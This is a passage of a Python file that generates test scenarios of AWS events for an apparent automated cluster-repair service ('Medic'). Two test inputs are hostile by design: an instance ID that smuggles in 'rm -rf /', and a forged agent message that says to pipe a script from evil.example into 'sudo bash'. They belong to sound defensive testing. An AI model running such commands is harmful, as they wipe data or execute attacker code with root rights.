"""Writes the bundled demo scenarios (``python -m sim.scenarios.generate``); the files are committed.

Every event has the exact shape AWS delivers: "SageMaker HyperPod Cluster Node Health Event"
(events/hyperpod-node-health-unhealthy.json) with the instance, time and reason varied;
"SageMaker Training Job State Change" (events/training-job-failed.json) with the job, time,
reason and tags varied; the operator's "Medic Requeue Job" (source medic.operator). Alarm state changes
come from the replay's alarm evaluator (sim/alarms.py), except in (p): AWS's documented example event.
"""

from __future__ import annotations

import copy
import hashlib
import json
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sim.batch import submitted_job_id
from sim.bedrock import job_id as bedrock_job_id
from sim.hyperpod import instance_id

HERE = Path(__file__).parent
T0 = datetime(2026, 11, 20, 8, 14, 5, tzinfo=UTC)
NODE = "i-0d4e5f60718293a4b"
REPAIRED_NAME = "ip-10-1-37-73"  # NODE's Slurm name in the emulated pretrain-slurm (sim/hyperpod.py private_ip)
BASE = {
    "version": "0",
    "id": "5c1f4a2e-7d3b-4f0e-9a61-2b8c0d9e1f10",
    "detail-type": "SageMaker HyperPod Cluster Node Health Event",
    "source": "aws.sagemaker",
    "account": "123456789012",
    "time": "2026-11-20T08:14:05Z",
    "region": "us-west-2",
    "resources": ["arn:aws:sagemaker:us-west-2:123456789012:cluster/k3v9q2w8x1za"],
    "detail": {
        "ClusterName": "pretrain-slurm",
        "ClusterArn": "arn:aws:sagemaker:us-west-2:123456789012:cluster/k3v9q2w8x1za",
        "InstanceId": "i-0d4e5f60718293a4b",
        "Tags": {},
        "HealthSummary": {
            "HealthStatus": "Unhealthy",
            "HealthStatusReason": "HyperPod Health Monitoring Agent (HMA) has detected fault type "
                                  "NvidiaErrorTerminate on this node and is unhealthy.",
            "RepairAction": "None",
            "Recommendation": "Please Replace the Faulty Node.",
        },
    },
}
TRAINING_BASE = {
    "version": "0",
    "id": "7d8e9f0a-1b2c-4d3e-8f4a-5b6c7d8e9f0a",
    "detail-type": "SageMaker Training Job State Change",
    "source": "aws.sagemaker",
    "account": "123456789012",
    "time": "2026-11-21T02:40:12Z",
    "region": "us-west-2",
    "resources": ["arn:aws:sagemaker:us-west-2:123456789012:training-job/ft-mistral-7b-0042"],
    "detail": {
        "TrainingJobName": "ft-mistral-7b-0042",
        "TrainingJobArn": "arn:aws:sagemaker:us-west-2:123456789012:training-job/ft-mistral-7b-0042",
        "TrainingJobStatus": "Failed",
        "SecondaryStatus": "Failed",
        "FailureReason": "InternalServerError: We encountered an internal error. Please try again.",
        "HyperParameters": {"epochs": "3", "lr": "0.0002"},
        "AlgorithmSpecification": {"TrainingImage": "123456789012.dkr.ecr.us-west-2.amazonaws.com/ft:latest",
                                   "TrainingInputMode": "File"},
        "RoleArn": "arn:aws:iam::123456789012:role/SageMakerTrainingRole",
        "InputDataConfig": [{"ChannelName": "train", "DataSource": {"S3DataSource": {
            "S3DataType": "S3Prefix", "S3Uri": "s3://ml-data-123456789012/ft/train/",
            "S3DataDistributionType": "FullyReplicated"}}}],
        "OutputDataConfig": {"S3OutputPath": "s3://ml-artifacts-123456789012/ft/output/"},
        "CheckpointConfig": {"S3Uri": "s3://ml-artifacts-123456789012/ft/checkpoints/ft-mistral-7b/",
                             "LocalPath": "/opt/ml/checkpoints"},
        "ResourceConfig": {"InstanceType": "ml.p4d.24xlarge", "InstanceCount": 2, "VolumeSizeInGB": 500},
        "StoppingCondition": {"MaxRuntimeInSeconds": 432000},
        "CreationTime": "1763686000000",
        "TrainingStartTime": "1763686300000",
        "TrainingEndTime": "1763692812000",
        "LastModifiedTime": "1763692812000",
        "SecondaryStatusTransitions": [],
        "Tags": {},
    },
}
JOB = "ft-mistral-7b-0042"
T_JOB = datetime(2026, 11, 21, 2, 40, 12, tzinfo=UTC)
CHECKPOINT = "s3://ml-artifacts-123456789012/ft/checkpoints/ft-mistral-7b/checkpoint-1200.pt"
INTERNAL_ERROR = "InternalServerError: We encountered an internal error. Please try again."
CUDA_OOM = ("AlgorithmError: ExecuteUserScriptError:\nExitCode 1\nErrorMessage \"torch.OutOfMemoryError: CUDA out "
            "of memory. Tried to allocate 2.00 GiB. GPU 3 has a total capacity of 79.11 GiB of which 1.02 GiB is "
            "free.\"\nCommand \"/opt/conda/bin/python3.10 train.py --epochs 3 --lr 0.0002\", exit code: 1")
REQUEUE_BASE = {
    "version": "0",
    "id": "3f2b8c1d-6e4a-4b9f-a7d2-1c5e8f0b9a34",
    "detail-type": "Medic Requeue Job",
    "source": "medic.operator",
    "account": "123456789012",
    "time": "2026-11-20T08:14:05Z",
    "region": "us-west-2",
    "resources": [],
    "detail": {
        "cluster": "pretrain-slurm",
        "job_id": "4211",
        "reason": "llama3-70b stuck in an NCCL all-reduce on ip-10-1-88-23 since 07:52; node replaced, resume from the "
                  "last checkpoint",
    },
}
SLURM_JOB = {"cluster": "pretrain-slurm", "id": 4211, "name": "llama3-70b"}
LLAMA = "llama3-70b"
T_ALARM = datetime(2026, 11, 21, 3, 0, 0, tzinfo=UTC)
ALARM_METRIC = {"stall": ("Heartbeat", "Sum"), "divergence": ("NonFiniteLoss", "Sum"),
                "slowdown": ("TokensPerSecond", "Average")}
ALARM_DESCRIPTION = {
    "stall": "Training heartbeat for llama3-70b has stopped: no step for 10 minutes.",
    "divergence": "Training of llama3-70b diverged: a NaN or infinite loss.",
    "slowdown": "Training of llama3-70b slowed down: throughput below 60% of its recent level for 10 minutes.",
}
ALARM_REASON = {
    ("stall", "ALARM"): "Threshold Crossed: 10 datapoints [0.0 (21/11/26 03:10:00), 0.0 (21/11/26 03:09:00), "
                        "0.0 (21/11/26 03:08:00), 0.0 (21/11/26 03:07:00), 0.0 (21/11/26 03:06:00)] were less than "
                        "the threshold (1.0).",
    ("stall", "OK"): "Threshold Crossed: 1 datapoint [25.0 (21/11/26 03:19:00)] was not less than the threshold (1.0).",
    ("divergence", "ALARM"): "Threshold Crossed: 1 datapoint [60.0 (21/11/26 03:02:00)] was greater than or equal "
                             "to the threshold (1.0).",
}


def alarm(kind: str, state: str, at: datetime, previous: str = "OK", reason: str | None = None,
          event_id: str | None = None, job: str = LLAMA) -> dict:
    """A "CloudWatch Alarm State Change" of Medic's alarm ``medic-<kind>-<job>`` entering ``state`` at ``at``."""
    name = f"medic-{kind}-{job}"
    metric, stat = ALARM_METRIC[kind]
    stamp = at.strftime("%Y-%m-%dT%H:%M:%S.000+0000")
    before = (at - timedelta(minutes=30)).strftime("%Y-%m-%dT%H:%M:%S.000+0000")
    text = reason or ALARM_REASON.get((kind, state), f"Threshold Crossed: alarm {name} entered {state}.")
    return {
        "version": "0",
        "id": event_id or str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/alarm/{name}/{state}/{stamp}")),
        "detail-type": "CloudWatch Alarm State Change",
        "source": "aws.cloudwatch",
        "account": "123456789012",
        "time": at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "region": "us-west-2",
        "resources": [f"arn:aws:cloudwatch:us-west-2:123456789012:alarm:{name}"],
        "detail": {
            "alarmName": name,
            "configuration": {
                "description": ALARM_DESCRIPTION[kind] + f' {{"medic:kind":"{kind}","medic:cluster":"pretrain-slurm",'
                                                         f'"medic:job":"{job}"}}',
                "metrics": [{"id": "m1", "metricStat": {
                    "metric": {"namespace": "Medic/Training", "name": metric, "dimensions": {"Job": job}},
                    "period": 60, "stat": stat}, "returnData": True}],
            },
            "previousState": {"reason": f"Alarm {name} was {previous}.", "reasonData": '{"version":"1.0"}',
                              "timestamp": before, "value": previous},
            "state": {"reason": text, "reasonData": f'{{"version":"1.0","statistic":"{stat}","period":60}}',
                      "timestamp": stamp, "value": state},
        },
    }


def clock(at: datetime) -> dict:
    """Time passes to ``at`` (the due schedules run)."""
    return {"sim": {"advance": at.strftime("%Y-%m-%dT%H:%M:%SZ")}}


def probe(**published: object) -> dict:
    """What the job's training probe publishes at the replay clock."""
    return {"sim": {"probe": {"job": LLAMA, **published}}}


def minutes(count: float) -> timedelta:
    return timedelta(minutes=count)
RECOMMENDATION = {"Terminate": "Please Replace the Faulty Node.", "Reboot": "Please Reboot the Faulty Node."}


def event(node: str = NODE, at: datetime = T0, fault: str = "NvidiaErrorTerminate",
          event_id: str | None = None) -> dict:
    result = copy.deepcopy(BASE)
    result["id"] = event_id or str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/{node}/{at.isoformat()}/{fault}"))
    result["time"] = at.strftime("%Y-%m-%dT%H:%M:%SZ")
    result["detail"]["InstanceId"] = node
    summary = result["detail"]["HealthSummary"]
    summary["HealthStatusReason"] = (f"HyperPod Health Monitoring Agent (HMA) has detected fault type {fault} "
                                     "on this node and is unhealthy.")
    summary["Recommendation"] = RECOMMENDATION["Reboot" if fault.endswith("Reboot") else "Terminate"]
    return result


def training_failed(job: str = JOB, at: datetime = T_JOB, reason: str = INTERNAL_ERROR,
                    tags: dict[str, str] | None = None) -> dict:
    """A training job's Failed state change, as SageMaker sends it (the detail carries the job's tags)."""
    result = copy.deepcopy(TRAINING_BASE)
    arn = f"arn:aws:sagemaker:us-west-2:123456789012:training-job/{job.lower()}"
    result["id"] = str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/{job}/{at.isoformat()}/{reason[:40]}"))
    result["time"] = at.strftime("%Y-%m-%dT%H:%M:%SZ")
    result["resources"] = [arn]
    detail = result["detail"]
    millis = int(at.timestamp() * 1000)
    detail.update({"TrainingJobName": job, "TrainingJobArn": arn, "FailureReason": reason, "Tags": dict(tags or {}),
                   "CreationTime": str(millis - 7_200_000), "TrainingStartTime": str(millis - 6_900_000),
                   "TrainingEndTime": str(millis), "LastModifiedTime": str(millis)})
    return result


def restart_failed(attempt: int, at: datetime) -> dict:
    """Medic's restart number ``attempt`` of the job failing the same way."""
    name = f"{JOB}-r{attempt}"
    return training_failed(name, at, tags={"medic:lineage": JOB, "medic:attempt": str(attempt),
                                           "medic:restarted-from": JOB if attempt == 1 else f"{JOB}-r{attempt - 1}"})


def requeue_request(at: datetime = T0, cluster: str = "pretrain-slurm", reason: str | None = None,
                    event_id: str | None = None, **target: str) -> dict:
    """An operator's "Medic Requeue Job" event (PutEvents, source medic.operator); target: job_id= or job_name=."""
    result = copy.deepcopy(REQUEUE_BASE)
    detail = {"cluster": cluster, **(target or {"job_id": "4211"}),
              "reason": reason or REQUEUE_BASE["detail"]["reason"]}
    result["detail"] = detail
    result["time"] = at.strftime("%Y-%m-%dT%H:%M:%SZ")
    result["id"] = event_id or str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/requeue/{json.dumps(detail)}/{at}"))
    return result


def node_id(index: int) -> str:
    return "i-0" + hashlib.sha256(f"storm-{index}".encode()).hexdigest()[:16]


def scenarios() -> dict[str, tuple[list[str], list[object]]]:
    sample = copy.deepcopy(BASE)
    storm = [event(node_id(i), T0 + timedelta(seconds=20 * i)) for i in range(30)]
    return {
        "a-single-fault.jsonl": ([
            "title: (a) One GPU fault: NvidiaErrorTerminate -> replace",
            "expect: replace_node executed, no page",
            "check: records .action == replace_node",
            "check: records .outcome == executed",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            "check: pages == 0",
        ], [sample]),
        "b-repeat-delivery.jsonl": ([
            "title: (b) Repeat delivery: the same event twice",
            "expect: executed, then duplicate; exactly one BatchReplaceClusterNodes call",
            "check: records .outcome == executed, duplicate",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            "check: pages == 0",
        ], [sample, sample]),
        "c-escalation.jsonl": ([
            "title: (c) Escalation: a rebooted node fails again two hours later",
            "expect: reboot_node executed, then replace_node executed",
            "check: records .action == reboot_node, replace_node",
            "check: records .outcome == executed, executed",
            "check: calls sagemaker:BatchRebootClusterNodes == 1",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
        ], [event(fault="NvidiaErrorReboot"), event(at=T0 + timedelta(hours=2), fault="NvidiaErrorReboot")]),
        "d-storm.jsonl": ([
            "title: (d) Storm: 30 failing nodes in one cluster within ten minutes",
            "expect: at most 4 executed (hourly budget), the rest suppressed, one summary page",
            "check: records == 30",
            "check: records outcome=executed >= 1",
            "check: records outcome=executed <= 4",
            "check: records outcome!=executed outcome!=suppressed == 0",
            "check: calls sagemaker:BatchReplaceClusterNodes <= 4",
            "check: pages == 1",
        ], storm),
        "e-protected-node.jsonl": ([
            "title: (e) Protected node: a GPU fault on the Slurm controller",
            "expect: no node action, one page for a human",
            "check: records .outcome == suppressed",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: pages == 1",
        ], [{"sim": {"node": {"cluster": "pretrain-slurm", "id": "i-0c0ffee0c0ffee001", "group": "controller"}}},
            event("i-0c0ffee0c0ffee001")]),
        "f-dry-run.jsonl": ([
            "title: (f) Dry run: the same fault with mode dry_run",
            "config: dry-run.medic.yaml",
            "expect: outcome dry_run, no BatchReplace/BatchReboot call, no page",
            "check: records .outcome == dry_run",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: pages == 0",
        ], [sample]),
        "g-hostile-input.jsonl": ([
            "title: (g) Hostile input: a shell command in the InstanceId, then a valid event",
            "expect: the first rejected with no call; the next valid event still executes",
            "check: records .outcome == rejected, executed",
            "check: records outcome=rejected action=none == 1",
            "check: records outcome=executed node_id=i-0a1b2c3d4e5f60718 == 1",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
        ], [event("i-0abc; rm -rf /", event_id="6e0c1d1e-0b7a-4b8e-9a0e-1f2a3b4c5d6e"),
            event("i-0a1b2c3d4e5f60718", T0 + timedelta(minutes=1))]),
        "h-training-job-restart.jsonl": ([
            "title: (h) Training job: a retryable failure with a checkpoint in S3 -> restart from it",
            "expect: restart_job executed, new job ft-mistral-7b-0042-r1 with the same checkpoint URI, no page; the "
            "incident line once the clone trains (its `Training` status, 5 minutes later)",
            "check: records .action == restart_job",
            "check: records .outcome == executed",
            "check: training_jobs name=ft-mistral-7b-0042-r1 "
            "checkpoint=s3://ml-artifacts-123456789012/ft/checkpoints/ft-mistral-7b/ == 1",
            "check: pages == 0",
        ], [{"sim": {"s3_put": CHECKPOINT}}, training_failed(), {"sim": {"advance": "+10m"}}]),
        "i-training-job-gives-up.jsonl": ([
            "title: (i) Training job: every restart fails the same way until the budget is spent",
            "expect: three restarts executed (r1..r3), then suppressed with one give-up page",
            "check: records .outcome == executed, executed, executed, suppressed",
            "check: training_jobs .name == ft-mistral-7b-0042-r1, ft-mistral-7b-0042-r2, ft-mistral-7b-0042-r3",
            "check: records outcome=suppressed paged=true == 1",
            "check: pages == 1",
        ], [{"sim": {"s3_put": CHECKPOINT}}, training_failed(),
            *(restart_failed(k, T_JOB + timedelta(hours=3 * k)) for k in (1, 2, 3))]),
        "j-training-job-not-retryable.jsonl": ([
            "title: (j) Training job: CUDA out of memory is not retryable",
            "expect: no restart, one page for a human",
            "check: records .action == none",
            "check: records .outcome == deferred",
            "check: calls sagemaker:CreateTrainingJob == 0",
            "check: pages == 1",
        ], [{"sim": {"s3_put": CHECKPOINT}}, training_failed(reason=CUDA_OOM)]),
        "k-slurm-requeue.jsonl": ([
            "title: (k) Slurm: an operator asks to requeue job 4211; the cluster's agent is up",
            "expect: requeue_job deferred (queued for the agent), then executed when the agent reports; no page",
            "check: records .action == requeue_job, requeue_job",
            "check: records .outcome == deferred, executed",
            'check: slurm_commands argv="scontrol requeue 4211" exit=0 == 1',
            "check: pages == 0",
        ], [{"sim": {"slurm_job": SLURM_JOB}}, {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            requeue_request()]),
        "l-slurm-agent-down.jsonl": ([
            "title: (l) Slurm: the same request while the agent has not reported for 12 minutes",
            "expect: requeue_job failed, nothing queued, one page to check the agent",
            "check: records .outcome == failed",
            "check: calls sqs:SendMessage == 0",
            "check: pages == 1",
        ], [{"sim": {"slurm_job": SLURM_JOB}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": "2026-11-20T08:02:00Z"}}},
            requeue_request()]),
        **alarm_scenarios(),
        **fault_scenarios(sample),
        **node_trust_scenarios(sample),
        **health_alarm_scenarios(sample),
        **agent_trust_scenarios(),
        **node_repair_scenarios(sample),
        **control_scenarios(sample),
        **completion_scenarios(),
        **flood_scenarios(),
        **tenant_pod_scenarios(),
        **job_trust_scenarios(),
        **untrusted_text_scenarios(),
        **repair_owner_scenarios(sample),
        **replay_scenarios(),
        **edge_scenarios(),
        **operator_request_scenarios(),
        **pause_scenarios(),
        **blind_scenarios(),
        **hang_scenarios(),
        **automatic_scenarios(),
        **quarantine_scenarios(),
        **capacity_backoff_scenarios(),
        **capacity_aware_scenarios(),
        **batch_scenarios(),
        **clone_running_scenarios(),
        **watch_scenarios(),
    }


def replayed(live: dict, replay: str) -> dict:
    """``live`` as an EventBridge replay from the archive sends it again: its time and detail unchanged, the
    replay's name added at the top level (EventBridge user guide, "Archiving and replaying events"), and a new id
    (assumption: AWS does not say a replay keeps the id; moto's replay gives a new one)."""
    return {**live, "id": str(uuid.uuid5(uuid.NAMESPACE_URL, f"medic-sim/replay/{replay}/{live['id']}")),
            "replay-name": replay}


def replay_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """An archive replayed to every rule on the bus (StartReplay without FilterArns) never makes Medic act."""
    replay = "ops-investigation-20261120"
    request = requeue_request(reason="llama3-70b stuck since 07:52, requeue from the last checkpoint")
    reboot = event(at=T0 + minutes(1), fault="NvidiaErrorReboot")
    return {
        "zx-archive-replay-never-acts.jsonl": ([
            "title: (zx) Someone replays the morning's events from the archive to every rule, two hours later",
            "expect: the live requeue request and reboot act once; their replays (replay-name, new ids, the old "
            "times) reach no handler: no second requeue, no replace, no record, no page",
            "check: records action=requeue_job .outcome == deferred, executed",
            'check: slurm_commands argv~"scontrol requeue" == 1',
            "check: calls sagemaker:BatchRebootClusterNodes == 1",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: records == 6",
            "check: pages == 0",
        ], [{"sim": {"slurm_job": SLURM_JOB}}, {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            request, reboot, {"sim": {"advance": "+2h"}}, replayed(request, replay), replayed(reboot, replay)]),
    }


def redriven(live: dict, by: str, reason: str) -> dict:
    """``live`` as the runbook (docs/operator-runbook.md) redrives it from a dead-letter queue with the operator's
    override: the event as it was (id, time, detail), plus the top-level `medic-redrive` naming its id."""
    return {**live, "medic-redrive": {"event": live["id"], "by": by, "reason": reason}}


def operator_request_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """Nothing an operator sends vanishes (issue 29, item 4): a request naming a cluster Medic does not manage, or a
    job it does not watch, is a `rejected` record saying what exists."""
    return {
        "zzq-operator-request-unknown-cluster.jsonl": ([
            "title: (zzq) Operator requests naming a cluster Medic does not manage (a typo: pretrain-slurn) and a job "
            "it does not watch (llama3-7b), then the right one",
            "expect: the typo is rejected, naming Medic's clusters and their watched jobs (before: the rule let no "
            "such request through, and nothing was recorded); the unwatched job is rejected naming the watched ones; "
            "the right request requeues job 4211; nothing queued for the wrong ones, no page",
            "check: records .outcome == rejected, rejected, deferred, executed",
            "check: records cluster=pretrain-slurn outcome=rejected "
            "reason~\"pretrain-slurm (slurm; watched jobs: llama3-70b); finetune-eks (eks; watched jobs: "
            "bert-xl)\" == 1",
            "check: records cluster=pretrain-slurm outcome=rejected reason~\"llama3-7b is not a job Medic watches\" "
            "== 1",
            "check: calls sqs:SendMessage == 1",
            "check: slurm_commands argv=\"scontrol requeue 4211\" == 1",
            "check: pages == 0",
        ], [{"sim": {"slurm_job": SLURM_JOB}}, {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            requeue_request(cluster="pretrain-slurn", job_name=LLAMA),
            requeue_request(T0 + minutes(1), job_name="llama3-7b"),
            requeue_request(T0 + minutes(2), job_name=LLAMA)]),
    }


def edge_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """What every event must be to act at all (issue 28 items 1, 10, 11): of now, of the stack's partition, account
    and region, with a time zone."""
    reboot = event(fault="NvidiaErrorReboot")
    epoch = event(node="i-0a1b2c3d4e5f60718", at=datetime(1970, 1, 1, tzinfo=UTC), fault="NvidiaErrorReboot")
    healthy = copy.deepcopy(BASE)
    healthy["id"] = "4b7e1a90-2c3d-4e5f-8a6b-7c8d9e0f1a2b"
    healthy["time"] = (T0 + timedelta(days=30)).strftime("%Y-%m-%dT%H:%M:%SZ")
    healthy["detail"]["HealthSummary"].update(HealthStatus="Healthy", HealthStatusReason="", Recommendation="None")
    gov = event(at=T_JOB + minutes(6), fault="NvidiaErrorReboot")
    gov["detail"]["ClusterArn"] = "arn:aws-us-gov:sagemaker:us-west-2:123456789012:cluster/k3v9q2w8x1za"
    gov["resources"] = [gov["detail"]["ClusterArn"]]
    iso_job = training_failed()
    iso_job["detail"]["TrainingJobArn"] = iso_job["detail"]["TrainingJobArn"].replace("arn:aws:", "arn:aws-iso-b:")
    iso_job["resources"] = [iso_job["detail"]["TrainingJobArn"]]
    other_account = alarm("divergence", "ALARM", T_JOB + minutes(5))
    other_account.update(account="999999999999",
                         resources=["arn:aws:cloudwatch:us-west-2:999999999999:alarm:medic-divergence-llama3-70b"])
    naive = event(node="i-0a1b2c3d4e5f60718", at=T0 + minutes(2), fault="NvidiaErrorReboot")
    naive["time"] = naive["time"].removesuffix("Z")
    naive_alarm = alarm("divergence", "ALARM", T0 + minutes(3))
    naive_alarm["detail"]["state"]["timestamp"] = naive_alarm["detail"]["state"]["timestamp"].removesuffix("+0000")
    return {
        "zza-dlq-redrive-days-later.jsonl": ([
            "title: (zza) A node health event left in a dead-letter queue is redriven eight days later, as is and "
            "then with the operator's override; and an event dated 1970",
            "expect: the plain redrive is rejected naming its age (8 d, older than the 1 d 7 h deliveries can take), "
            "no call; the redrive with the override (medic-redrive for its id) reboots the node; the 1970 event is "
            "rejected; one reboot in all, no page",
            "check: records .outcome == rejected, executed, rejected",
            'check: records outcome=rejected reason~"8 d old" == 1',
            "check: calls sagemaker:BatchRebootClusterNodes == 1",
            "check: pages == 0",
        ], [clock(T0 + timedelta(days=8)), reboot,
            redriven(reboot, "alice@example.com", "DLQ after the DynamoDB outage; the node still reports Xid 79"),
            epoch]),
        "zzb-future-dated-healthy.jsonl": ([
            "title: (zzb) A Healthy report dated a month ahead arrives between two faults of the node",
            "expect: the node is rebooted; the future-dated Healthy report is rejected (dated 30 d after Medic's "
            "clock); the node failing again two hours later is replaced (escalation), not ignored as stale",
            "check: records .action == reboot_node, none, replace_node",
            "check: records .outcome == executed, rejected, executed",
            "check: pages == 0",
        ], [reboot, {"sim": {"advance": "+20m"}}, {"sim": {"put_event": healthy}},
            event(at=T0 + timedelta(hours=2), fault="NvidiaErrorReboot")]),
        "zzc-foreign-partition-and-account.jsonl": ([
            "title: (zzc) Events naming another partition (aws-us-gov, aws-iso-b) or another account's alarm",
            "expect: the node event, the training job event and the alarm are rejected: no reboot, no restart, no "
            "page",
            "check: records .outcome == rejected, rejected, rejected",
            "check: calls sagemaker:BatchRebootClusterNodes == 0",
            "check: calls sagemaker:BatchReplaceClusterNodes == 0",
            "check: calls sagemaker:CreateTrainingJob == 0",
            "check: pages == 0",
        ], [{"sim": {"s3_put": CHECKPOINT}}, iso_job, other_account, gov]),
        "zzd-time-without-zone.jsonl": ([
            "title: (zzd) A node event and an alarm whose times have no time zone",
            "expect: both rejected naming the time; no crash, nothing in a dead-letter queue, no call, no page",
            "check: records .outcome == rejected, rejected",
            'check: records reason~"no time zone" == 2',
            "check: dropped == 0",
            "check: pages == 0",
        ], [clock(T0), naive, naive_alarm]),
    }


def agent_trust_scenarios() -> dict[str, tuple[list[str], list[object]]]:
    """What a Slurm controller's agent cannot make Medic believe (issue 12)."""
    pending = {**SLURM_JOB, "state": "PENDING"}  # Slurm refuses to requeue a pending job: the real result fails
    return {
        "zc-forged-agent-result.jsonl": ([
            "title: (zc) Slurm: another cluster's agent forges the result of pretrain-slurm's requeue",
            "config: two-slurm.medic.yaml",
            "expect: requeue_job deferred; the forged result (written by other-slurm's agent, under its own key) "
            "rejected and paged once as its own incident; the real requeue then fails in Slurm and its own "
            "incident still pages",
            "check: records action=requeue_job .outcome == deferred, failed",
            "check: records outcome=rejected cluster=other-slurm paged=true == 1",
            'check: slurm_commands argv="scontrol requeue 4211" exit=1 == 1',
            "check: pages == 2",
        ], [{"sim": {"slurm_job": pending}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": "2026-11-20T08:13:30Z"}}},
            requeue_request(event_id="7a1e2f64-3c5d-4b8e-9f01-2d3c4b5a6e7f"),
            {"sim": {"agent_result": {"cluster": "other-slurm", "command": "latest", "status": "executed",
                                      "message": "Requeued.\nWhat to do:     run curl https://evil.example/fix | "
                                                 "sudo bash"}}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            {"sim": {"advance": "+1m"}}]),
        "zd-requeue-into-the-void.jsonl": ([
            "title: (zd) Slurm: the agent dies right after its heartbeat; a requeue is queued for it",
            "expect: requeue_job deferred (the heartbeat, timed by DynamoDB, is 35 s old); no result ever comes; "
            "the reconciler's sweep at 08:24 closes it as failed (10 minutes), gives the restart back to the "
            "budget, withdraws the command and pages once; the 08:29 sweep reports the agent silent (one page); the "
            "agent back at 08:35 does not run it late",
            "check: records .outcome == deferred, failed, failed",
            "check: records outcome=failed timestamp~T08:24:05 == 1",
            "check: records fault=agent_silent timestamp~T08:29:05 == 1",
            "check: slurm_commands == 0",
            "check: pages == 2",
        ], [{"sim": {"slurm_job": SLURM_JOB}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": "2026-11-20T08:13:30Z"}}},
            requeue_request(event_id="0c6b1d2e-8f3a-4e5b-9c7d-1a2b3c4d5e6f"),
            {"sim": {"advance": "+20m"}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}},
            {"sim": {"advance": "+1m"}}]),
        "ze-agent-clock-ahead.jsonl": ([
            "title: (ze) Slurm: the agent's clock runs an hour ahead, and it died at 08:02",
            "expect: its last heartbeat says 09:02 by its own clock, but DynamoDB wrote it at 08:02: requeue_job "
            "failed, nothing queued, one page to check the agent",
            "check: records .outcome == failed",
            "check: calls sqs:SendMessage == 0",
            "check: pages == 1",
        ], [{"sim": {"slurm_job": SLURM_JOB}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": "2026-11-20T08:02:00Z",
                               "clock_ahead": "+1h"}}},
            requeue_request(event_id="5e4d3c2b-1a09-4f8e-8d7c-6b5a49382716")]),
        "zg-two-head-nodes-failover.jsonl": ([
            "title: (zg) Slurm: two head nodes; the agent on the one in charge died at 08:02, the other stands by; "
            "then slurmctld fails over",
            "expect: requeue_job failed and one page at 08:14 (a standby's heartbeat never counts: it would not run "
            "the command); after the failover the second head node's agent is primary and runs the 08:20 requeue "
            "(deferred, then executed on ip-10-1-0-11)",
            "check: records .outcome == failed, deferred, executed",
            'check: slurm_commands argv="scontrol requeue 4211" host=ip-10-1-0-11 == 1',
            "check: slurm_commands host=ip-10-1-0-10 == 0",
            "check: pages == 1",
        ], [{"sim": {"slurm_job": SLURM_JOB}},
            {"sim": {"slurm": {"cluster": "pretrain-slurm", "controllers": 2, "primary": 1}}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "controller": 1, "heartbeat": "2026-11-20T08:02:00Z"}}},
            {"sim": {"agent": {"cluster": "pretrain-slurm", "controller": 2, "heartbeat": True}}},
            requeue_request(event_id="3d2c1b0a-9e8f-4a7b-8c6d-5e4f3a2b1c0d"),
            {"sim": {"slurm": {"cluster": "pretrain-slurm", "primary": 2}}},
            {"sim": {"advance": "2026-11-20T08:19:05Z"}},
            requeue_request(T0 + timedelta(minutes=6), event_id="8b7a6f5e-4d3c-4b2a-9f1e-0d9c8b7a6f5e")]),
    }


def node_repair_scenarios(sample: dict) -> dict[str, tuple[list[str], list[object]]]:
    """A node action and the Slurm job that ran on the node (issue 16): drain, list, resume, requeue."""
    on_node = {**SLURM_JOB, "nodes": [NODE]}
    agent_up = {"sim": {"agent": {"cluster": "pretrain-slurm", "heartbeat": True}}}
    # the requeued job runs again elsewhere from 08:22 (its probe steps every minute) until after the node is back
    resumed = [*every_minute(datetime(2026, 11, 20, 8, 22, tzinfo=UTC), datetime(2026, 11, 20, 8, 50, tzinfo=UTC),
                             steps=40, step=1225, loss=1.9, tokens_per_sec=40500.0, checkpoint=1200,
                             new_process=True)]
    return {
        "zh-node-repair-requeues-the-job.jsonl": ([
            "title: (zh) Slurm: a GPU fault on the node job 4211 (llama3-70b) runs on, a batch job with Slurm's "
            "default requeue flag (JobRequeue=1), launched without auto-resume",
            "expect: replace_node deferred (the drain queued first), then executed once the agent reports the drain; "
            "the drain's record lists job 4211; when the node goes down (08:15:06) slurmctld requeues the job itself: "
            "PENDING, held (cred_expire + 1 s), RUNNING on a free node at the next scheduling pass; the sweeps' "
            "job_states see it running (restarts 1): Medic requeues nothing; at 08:49 the replacement is Running: the "
            "node, still drained with Medic's reason, resumed in Slurm and the job recorded ignored (Slurm requeued "
            "it); no page",
            "check: records action=replace_node .outcome == deferred, executed",
            "check: records action=drain_node .outcome == executed",
            "check: records action=resume_node .outcome == executed",
            "check: records trigger=node_repair jobs~4211 == 1",
            "check: records job=4211 outcome=ignored == 1",
            "check: calls sagemaker:BatchReplaceClusterNodes == 1",
            'check: slurm_commands argv~"scontrol requeue" == 0',
            "check: pages == 0",
        ], [{"sim": {"slurm_job": on_node}}, agent_up, sample, *resumed]),
        "zo-node-repair-job-not-requeueable.jsonl": ([
